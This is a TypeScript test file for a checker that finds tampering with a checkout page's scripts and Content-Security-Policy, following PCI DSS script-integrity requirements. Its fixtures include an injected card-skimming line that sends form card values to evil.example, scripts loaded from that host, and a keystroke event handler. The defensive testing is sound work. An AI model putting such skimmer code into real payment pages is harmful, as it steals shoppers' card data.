import { describe, expect, it } from 'vitest'
import { type FetchedPage, checkPaymentPage } from './check-payment-page.ts'

const NONCE = "'nonce-RAVfvA1bV1Jf6VrnuQAdgw=='"
const MODULES =
  'import "/assets/manifest-1.js";\nimport * as route0 from "/assets/root-1.js";\n' +
  'window.__reactRouterRouteModules = {"root":route0};\n\nimport("/assets/entry-1.js");'
const DATA = String.raw`window.__reactRouterContext.streamController.enqueue("[\"cart\",\"</script>\"]");`
const FILES: Record<string, string> = {
  '/assets/manifest-1.js': '{"module":"/assets/root-1.js"}',
  '/assets/root-1.js': 'import "./shared-1.js"; import("./card-frame-1.js")',
  '/assets/shared-1.js': 'export {}',
  '/assets/card-frame-1.js': 'export {}',
  '/assets/entry-1.js': 'start()',
}

const html = (...scripts: string[]) =>
  `<html><body><form><input></form>${scripts.map((text) => `<script nonce="x">${text}</script>`).join('')}</body></html>`

const page = (change: Partial<FetchedPage> = {}): FetchedPage => ({
  status: 200,
  policy: `default-src 'self'; script-src 'self' ${NONCE} https://www.paypal.com; object-src 'none'`,
  html: html(MODULES, DATA.replaceAll('</', String.raw`\u003c/`)),
  ...change,
})

const check = (fetched: FetchedPage, served: Record<string, string> = {}) =>
  checkPaymentPage(
    {
      readPage: async () => fetched,
      readScript: async (path) => Buffer.from({ ...FILES, ...served }[path] ?? ''),
      builtScript: (path) => (FILES[path] === undefined ? null : Buffer.from(FILES[path])),
    },
    '/checkout',
  )

/** @source PCI DSS 4.0.1, requirements 6.4.3 and 11.6.1 */
describe('the check of the payment page', () => {
  it('reports nothing for the released page', async () => {
    expect(await check(page())).toEqual([])
  })

  it.each([
    {
      change: 'an added inline script',
      fetched: page({ html: html(MODULES, 'fetch("https://evil.example/?"+document.forms[0].card.value)') }),
      finds: /that is not in the inventory: fetch/,
    },
    {
      change: 'code after the data',
      fetched: page({ html: html(MODULES, `${DATA.replaceAll('</', '')};steal()`) }),
      finds: /that is not in the inventory/,
    },
    {
      change: 'a module from another site',
      fetched: page({ html: html(MODULES.replace('/assets/root-1.js', 'https://evil.example/a.js')) }),
      finds: /that is not in the inventory/,
    },
    {
      change: 'a script file from another site',
      fetched: page({ html: `${page().html}<script src="https://evil.example/a.js"></script>` }),
      finds: /a script is loaded from https:\/\/evil\.example\/a\.js/,
    },
    {
      change: 'an event handler on an element',
      fetched: page({ html: page().html.replace('<input>', '<input onkeyup="steal()">') }),
      finds: /the event handler onkeyup/,
    },
    {
      change: 'another host in the policy',
      fetched: page({ policy: "script-src 'self' https://evil.example" }),
      finds: /allows scripts from https:\/\/evil\.example/,
    },
    {
      change: 'inline scripts allowed by the policy',
      fetched: page({ policy: "script-src 'self' 'unsafe-inline'" }),
      finds: /allows scripts from 'unsafe-inline'/,
    },
    { change: 'no policy', fetched: page({ policy: null }), finds: /has no script-src/ },
    {
      change: 'a response without a page',
      fetched: page({ status: 302 }),
      finds: /instead of the page/,
    },
  ])('reports $change', async ({ fetched, finds }) => {
    expect((await check(fetched)).join('\n')).toMatch(finds)
  })

  it('reports a changed file at any depth of imports', async () => {
    expect(await check(page(), { '/assets/card-frame-1.js': 'steal()' })).toEqual([
      '/checkout: /assets/card-frame-1.js differs from the build',
    ])
  })

  it('reports a file that is not in the build', async () => {
    const served = { '/assets/shared-1.js': 'import "./more-1.js"', '/assets/more-1.js': 'steal()' }
    expect(await check(page(), served)).toEqual([
      '/checkout: /assets/shared-1.js differs from the build',
      '/checkout: /assets/more-1.js is not in the build',
    ])
  })
})
